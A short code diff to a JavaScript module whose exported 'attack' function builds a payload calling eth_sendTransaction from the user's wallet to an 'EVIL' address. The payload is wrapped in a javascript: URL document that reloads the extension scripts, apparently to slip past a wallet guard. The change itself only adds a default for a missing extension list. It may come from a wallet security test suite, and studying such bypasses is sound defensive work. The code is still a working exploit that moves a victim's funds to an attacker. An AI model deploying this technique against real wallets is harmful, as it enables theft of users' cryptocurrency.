@@ -11,7 +11,7 @@ export default {
   async attack(a) {
     const pay = `ethereum.request({ method: 'eth_sendTransaction', params: [{ from: '${a.USER}', to: '${a.EVIL}', value: '0x5' }] })`;
     // The extension enters the new document as it entered the old one; the guard does not.
-    const scripts = a.extension.map((src) => `<script src="${src}"></scr` + 'ipt>').join('');
+    const scripts = (a.extension ?? []).map((src) => `<script src="${src}"></scr` + 'ipt>').join('');
     const html = `<!doctype html><body>${scripts}<script>${pay}</scr` + 'ipt>';
     const url = `javascript:${encodeURIComponent(JSON.stringify(html))}`;
     const link = document.createElement('a');
